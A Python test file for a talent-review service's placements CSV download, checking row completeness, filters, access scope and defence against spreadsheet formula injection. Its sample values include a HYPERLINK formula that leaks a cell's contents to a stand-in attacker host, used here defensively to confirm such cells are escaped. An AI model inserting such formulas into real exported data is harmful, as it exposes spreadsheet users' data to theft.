"""The placements CSV for the talent committee: every row, the list's filters and scope, formulas neutralised."""

from __future__ import annotations

import csv
import io

import pytest
from fastapi import FastAPI

from services.scoring.placements.spreadsheet import COLUMNS, neutralise
from tests.engine.synthetic import synthetic_inputs
from tests.scoring.conftest import Api, agency_admin, complete_review_from, employee
from tests.scoring.csvexport import export_csv

TG = "pemkab-tanggamus"
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+6281234", "-1+1", "@SUM(A1)", "\t=1+1", "Nur, S.Kom"]


@pytest.mark.parametrize(
    ("value", "shown"),
    [("=1+1", "'=1+1"), ("+62", "'+62"), ("-x", "'-x"), ("@a", "'@a"), ("\tx", "'\tx"), ("\rx", "'\rx"),
     ("Budi", "Budi"), ("a=b", "a=b"), (7, "7"), (81.5, "81.5"), (None, ""), (True, "true")],
)  # fmt: skip
def test_a_cell_that_would_run_as_a_formula_is_shown_as_text(value: str | int | float | None, shown: str) -> None:
    assert neutralise(value) == shown


def hostile_export(people: int) -> bytes:
    """A scoring-inputs CSV whose first names are formulas (as an import or SIASN could bring them)."""
    rows = list(csv.reader(io.StringIO(export_csv(synthetic_inputs(people, seed=3)).decode())))
    name = rows[0].index("name")
    for row, text in zip(rows[1:], HOSTILE, strict=False):
        row[name] = text
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    return out.getvalue().encode()


async def test_the_download_has_every_row_with_formulas_neutralised(
    api: Api, scoring_app: FastAPI, agencies: dict[str, str]
) -> None:
    review = await complete_review_from(scoring_app, api, hostile_export(30))
    answer = await api.get(f"/v1/talent-reviews/{review}/placements.csv")
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"] == f'attachment; filename="placements-{review}.csv"'
    assert answer.content.startswith("\ufeff".encode())  # Excel reads UTF-8 only with the BOM
    table = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert tuple(table[0]) == COLUMNS
    listed = (await api.get(f"/v1/talent-reviews/{review}/placements", params={"limit": 500})).json()["items"]
    assert [row["nip"] for row in table] == [p["nip"] for p in listed]
    names = {row["name"] for row in table}
    assert {"'" + text for text in HOSTILE[:5]} <= names
    assert "Nur, S.Kom" in names  # quoted by the CSV writer, not changed
    assert not any(name.startswith(("=", "+", "-", "@", "\t")) for name in names)
    by_nip = {p["nip"]: p for p in listed}
    for row in table:
        person = by_nip[row["nip"]]
        assert row["effective_box"] == ("" if person["effective_box"] is None else str(person["effective_box"]))
        assert row["in_talent_pool"] == str(person["in_talent_pool"]).lower()
    placed = await api.get(f"/v1/talent-reviews/{review}/placements.csv", params={"status": "placed"})
    placed_rows = list(csv.DictReader(io.StringIO(placed.content.decode("utf-8-sig"))))
    assert placed_rows
    assert {row["status"] for row in placed_rows} == {"placed"}
    other = api.as_(agency_admin(agencies[TG]))
    assert (await other.get(f"/v1/talent-reviews/{review}/placements.csv")).status_code == 404
    person = api.as_(employee(agencies["pemkab-lampung-barat"], table[0]["nip"]))
    assert (await person.get(f"/v1/talent-reviews/{review}/placements.csv")).status_code == 403
    assert (await api.get("/v1/talent-reviews/no-such-review/placements.csv")).status_code == 404
    assert (await api.get(f"/v1/talent-reviews/{review}/placements.csv", params={"box": 0})).status_code == 422


async def test_a_review_of_more_than_one_batch_streams_whole(api: Api, scoring_app: FastAPI) -> None:
    review = await complete_review_from(scoring_app, api, export_csv(synthetic_inputs(4500, seed=11)))
    answer = await api.get(f"/v1/talent-reviews/{review}/placements.csv")
    nips = [row["nip"] for row in csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig")))]
    assert len(nips) == len(set(nips)) == 4500
    assert nips == sorted(nips)
